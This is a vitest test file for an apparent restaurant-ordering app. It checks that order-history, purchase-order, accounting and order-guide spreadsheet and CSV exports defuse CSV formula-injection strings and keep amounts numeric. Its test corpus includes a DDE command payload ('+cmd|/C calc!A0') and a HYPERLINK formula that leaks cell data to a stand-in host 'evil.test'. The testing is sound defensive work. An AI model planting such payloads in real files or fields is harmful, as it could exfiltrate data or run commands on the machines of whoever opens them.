/**
 * Formula injection in every export (issue 14 "Uploads and exports"): text that a spreadsheet would
 * run (`=1+1`, `+cmd`, `-2+3`, `@SUM(A1)`, a leading tab or carriage return, `=HYPERLINK(…)`) is put
 * into the data every spreadsheet and CSV download reads, each file is read back cell by cell with
 * exceljs, and no cell may be a formula or start with such a character; money stays numeric,
 * negative amounts included.
 *
 * The downloads: the order history workbook (orders/download-order-history), the restaurant
 * accounting CSV (orders/:id/download-order-365), the purchase order workbook
 * (orders/:id/purchase-order.xlsx), the order guide CSV (order-guides/:id/download) and the
 * accounting bulk-upload template (merchant-accounting/download-template, issue 33 defect 3).
 */
import { mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { Readable } from 'node:stream';
import ExcelJS from 'exceljs';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { sql } from 'drizzle-orm';
import { queryRows } from '@stockpot/db';
import { DEMO_IDS } from '@stockpot/db/seed';
import { parseCsv } from '@stockpot/domain';
import { multipartForm } from '../test-support/multipart';
import { bearer, createTestApp, signInAs, type TestApp } from '../test-support/test-app';

const GRILL = DEMO_IDS.locations.harborGrill;

/** What a hostile supplier, colleague or import could put in any text field. */
const CORPUS = [
  '=1+1',
  '+cmd|/C calc!A0',
  '-2+3',
  '@SUM(A1)',
  '\t=1+1',
  '\r=1+1',
  '=HYPERLINK("http://evil.test/?leak="&A1,"Click for refund")',
];

/**
 * A cell a spreadsheet program would run, or that starts like a formula. A line feed too: the xlsx
 * reader turns a stored carriage return into one.
 */
const RUNNABLE_START = /^[=+\-@\t\r\n]/;
const normaliseBreaks = (text: string) => text.replace(/\r\n?/g, '\n');
/** A plain decimal number, which a spreadsheet reads as a number (never a formula). */
const PLAIN_NUMBER = /^-?\d+(\.\d+)?$/;

let t: TestApp;
let owner: string;
let filesDir: string;
let orderId: number;
let guideId: number;
const db = () => t.handle.db;

beforeAll(async () => {
  filesDir = mkdtempSync(path.join(tmpdir(), 'stockpot-exports-'));
  t = await createTestApp({ FILES_DIR: filesDir });
  owner = await signInAs(t.app, 'owner@demo.test');

  // The names the files print: the location, the distributor and the person who ordered.
  await db().execute(sql`UPDATE locations SET nickname = ${CORPUS[2]} WHERE id = ${GRILL}`);
  const [source] = await queryRows<{ distributor_id: number; user_id: number }>(
    db(),
    sql`SELECT distributor_id, user_id FROM orders WHERE location_id = ${GRILL} AND user_id IS NOT NULL ORDER BY id LIMIT 1`,
  );
  await db().execute(sql`UPDATE distributors SET nickname = ${CORPUS[6]} WHERE id = ${source.distributor_id}`);
  await db().execute(sql`UPDATE users SET first_name = ${CORPUS[1]} WHERE id = ${source.user_id}`);

  // An order whose invoice number, notes and every line's text are hostile, with a credit line.
  const [order] = await queryRows<{ id: number }>(
    db(),
    sql`INSERT INTO orders (location_id, distributor_id, user_id, status, requested_delivery_date,
                            custom_invoice_id, notes, line_items, subtotal, total, credit_refusal, documents_status)
        VALUES (${GRILL}, ${source.distributor_id}, ${source.user_id}, 'submitted', current_date + 2,
                ${CORPUS[3]}, ${CORPUS[0]}, ${CORPUS.length}, 0, 0, 7.25, 'ready')
        RETURNING id`,
  );
  orderId = order.id;
  for (const [i, text] of CORPUS.entries()) {
    const next = CORPUS[(i + 1) % CORPUS.length];
    await db().execute(
      sql`INSERT INTO order_items (order_id, location_id, description, din, brand, pack_size, unit_measure, quantity, price)
          VALUES (${orderId}, ${GRILL}, ${text}, ${next}, ${text}, ${next}, 'case', 2, ${i === 0 ? '-3.50' : '12.40'})`,
    );
  }
  await db().execute(
    sql`UPDATE orders SET subtotal = t.s, total = t.s
        FROM (SELECT sum(price * quantity) AS s FROM order_items WHERE order_id = ${orderId}) t WHERE id = ${orderId}`,
  );

  // An order guide of that distributor whose offers' text is hostile.
  const offers = await queryRows<{ id: number }>(
    db(),
    sql`SELECT id FROM item_distributors WHERE distributor_id = ${source.distributor_id} ORDER BY id LIMIT ${CORPUS.length}`,
  );
  expect(offers).toHaveLength(CORPUS.length);
  for (const [i, offer] of offers.entries()) {
    await db().execute(
      sql`UPDATE item_distributors SET din = ${`${CORPUS[i]}#${i}`}, description = ${CORPUS[i]}, brand = ${CORPUS[i]},
                 pack_size = ${CORPUS[(i + 3) % CORPUS.length]}
          WHERE id = ${offer.id}`,
    );
  }
  const [guide] = await queryRows<{ id: number }>(
    db(),
    sql`INSERT INTO order_guides (location_id, distributor_id, start_date, end_date, item_count)
        VALUES (${GRILL}, ${source.distributor_id}, current_date, current_date + 30, ${offers.length}) RETURNING id`,
  );
  guideId = guide.id;
  for (const offer of offers) {
    await db().execute(
      sql`INSERT INTO order_guide_items (order_guide_id, item_distributor_id, location_id, price)
          VALUES (${guideId}, ${offer.id}, ${GRILL}, 9.99)`,
    );
  }
  // Migrating and seeding a fresh database is slow on a busy shared machine.
}, 600_000);

afterAll(async () => {
  await t?.close();
  rmSync(filesDir, { recursive: true, force: true });
});

async function download(url: string): Promise<Buffer> {
  const response = await t.app.inject({ method: 'GET', url, headers: bearer(owner) });
  expect(response.statusCode, `${url}: ${response.body.slice(0, 200)}`).toBe(200);
  return response.rawPayload;
}

async function fileUrl(linkUrl: string, field: string): Promise<string> {
  const link = await t.app.inject({ method: 'GET', url: linkUrl, headers: bearer(owner) });
  expect(link.statusCode).toBe(200);
  return (link.json() as { data: Record<string, string> }).data[field];
}

/** Every cell of every sheet, as exceljs reads it back. */
function everyCell(workbook: ExcelJS.Workbook): ExcelJS.Cell[] {
  const cells: ExcelJS.Cell[] = [];
  for (const sheet of workbook.worksheets) {
    sheet.eachRow({ includeEmpty: false }, (row) => row.eachCell({ includeEmpty: false }, (cell) => cells.push(cell)));
  }
  return cells;
}

/** No cell is a formula, and no text cell starts like one; the corpus shows up defused. */
function expectDefused(cells: ExcelJS.Cell[], expectedTexts: string[]) {
  expect(cells.length).toBeGreaterThan(0);
  const texts: string[] = [];
  for (const cell of cells) {
    expect(cell.type, `${cell.address} is a formula`).not.toBe(ExcelJS.ValueType.Formula);
    expect(cell.formula, cell.address).toBeFalsy();
    if (typeof cell.value === 'string') {
      texts.push(cell.value);
      if (RUNNABLE_START.test(cell.value)) {
        expect(PLAIN_NUMBER.test(cell.value), `${cell.address} ${JSON.stringify(cell.value)}`).toBe(true);
      }
    }
  }
  for (const text of expectedTexts) {
    expect(
      texts.some((cell) => normaliseBreaks(cell).startsWith(`'${normaliseBreaks(text)}`)),
      `${JSON.stringify(text)} is in the file, defused`,
    ).toBe(true);
  }
}

async function readXlsx(bytes: Buffer): Promise<ExcelJS.Workbook> {
  const workbook = new ExcelJS.Workbook();
  await workbook.xlsx.load(bytes as unknown as ArrayBuffer);
  return workbook;
}

/** A CSV as a spreadsheet opens it: numbers become numbers, everything else text. */
async function readCsv(bytes: Buffer): Promise<ExcelJS.Workbook> {
  const workbook = new ExcelJS.Workbook();
  await workbook.csv.read(Readable.from([bytes]));
  // exceljs's reader does not keep a carriage return inside a quoted field: check the text too.
  for (const row of parseCsv(bytes.toString('utf8'))) {
    for (const field of row) {
      if (RUNNABLE_START.test(field)) expect(PLAIN_NUMBER.test(field), JSON.stringify(field)).toBe(true);
    }
  }
  return workbook;
}

describe('formula injection in every export', () => {
  it('the order history workbook holds no formula; the invoice number and distributor are defused', async () => {
    const url = await fileUrl('/api/v1/orders/download-order-history', 'orderHistoryUrl');
    const workbook = await readXlsx(await download(url));
    expectDefused(everyCell(workbook), [CORPUS[3], CORPUS[6]]);
    const sheet = workbook.getWorksheet('Order History')!;
    let row: ExcelJS.Row | undefined;
    sheet.eachRow((candidate) => {
      if (candidate.getCell(1).value === orderId) row = candidate;
    });
    expect(row?.getCell(7).value).toBeCloseTo(141.8, 2);
    expect(row?.getCell(8).value).toBe(7.25);
  });

  it('the restaurant accounting CSV holds no formula; amounts stay numbers, a credit line negative', async () => {
    const url = await fileUrl(`/api/v1/orders/${orderId}/download-order-365`, 'order365Url');
    const workbook = await readCsv(await download(url));
    const cells = everyCell(workbook);
    expectDefused(cells, [CORPUS[0], CORPUS[1], CORPUS[2], CORPUS[3], CORPUS[6]]);
    const sheet = workbook.worksheets[0];
    expect(sheet.rowCount).toBe(CORPUS.length + 1);
    // Unit Price and Amount (columns 9 and 10) read as numbers; the first line is a credit.
    expect(sheet.getRow(2).getCell(9).value).toBe(-3.5);
    expect(sheet.getRow(2).getCell(10).value).toBe(-7);
    for (let r = 3; r <= sheet.rowCount; r += 1) {
      expect(sheet.getRow(r).getCell(9).value).toBe(12.4);
      expect(sheet.getRow(r).getCell(10).value).toBe(24.8);
    }
  });

  it('the purchase order workbook holds no formula; every line text, the notes and the header are defused', async () => {
    const workbook = await readXlsx(await download(`/api/v1/orders/${orderId}/purchase-order.xlsx`));
    expectDefused(everyCell(workbook), CORPUS);
    const prices: unknown[] = [];
    workbook.worksheets[0].eachRow((row) => {
      if (row.getCell(5).value === 2) prices.push(row.getCell(7).value);
    });
    expect(prices).toContain(-3.5);
  });

  it('the order guide CSV holds no formula; every offer text is defused', async () => {
    const url = await fileUrl(`/api/v1/order-guides/${guideId}/download`, 'url');
    const workbook = await readCsv(await download(url));
    expectDefused(everyCell(workbook), CORPUS);
    const sheet = workbook.worksheets[0];
    expect(sheet.rowCount).toBe(CORPUS.length + 1);
    for (let r = 2; r <= sheet.rowCount; r += 1) expect(sheet.getRow(r).getCell(6).value).toBe(9.99);
  });

  it('the accounting template holds no formula; supplier, category and GL code are defused and survive an upload back', async () => {
    const template = async () => readXlsx(await download('/api/v1/merchant-accounting/download-template'));
    const itemId = (await template()).worksheets[0].getRow(2).getCell(1).value as number;
    const names = { supplier: CORPUS[6], category: '@SUM(1+1)', glCode: '+1-2' };
    const tagged = await uploadAccounting(
      `Item ID,Supplier,Category,GL Code\r\n${itemId},"${names.supplier.replace(/"/g, '""')}",${names.category},${names.glCode}\r\n`,
    );
    expect(tagged.statusCode, tagged.body).toBe(200);

    const workbook = await template();
    expectDefused(everyCell(workbook), Object.values(names));
    // The filled-in template goes back as it came: the names are the ones typed, not their defused form.
    const back = await uploadAccounting(Buffer.from(await workbook.xlsx.writeBuffer()), 'template.xlsx');
    expect(back.statusCode, back.body).toBe(200);
    const [row] = await queryRows<{ supplier: string; category: string; gl_code: string }>(
      db(),
      sql`SELECT s.name AS supplier, c.name AS category, g.code AS gl_code
          FROM merchant_accountings t
          JOIN accounting_suppliers s ON s.id = t.supplier_id
          JOIN accounting_categories c ON c.id = t.category_id
          JOIN accounting_gl_codes g ON g.id = t.gl_code_id
          WHERE t.item_distributor_id = ${itemId} AND t.location_id = ${GRILL}`,
    );
    expect(row).toEqual({ supplier: names.supplier, category: names.category, gl_code: names.glCode });
  });
});

function uploadAccounting(content: string | Buffer, name = 'tags.csv') {
  const body = multipartForm({}, { name, content });
  return t.app.inject({
    method: 'POST',
    url: '/api/v1/merchant-accounting/upload',
    headers: { ...bearer(owner), ...body.headers },
    payload: body.payload,
  });
}
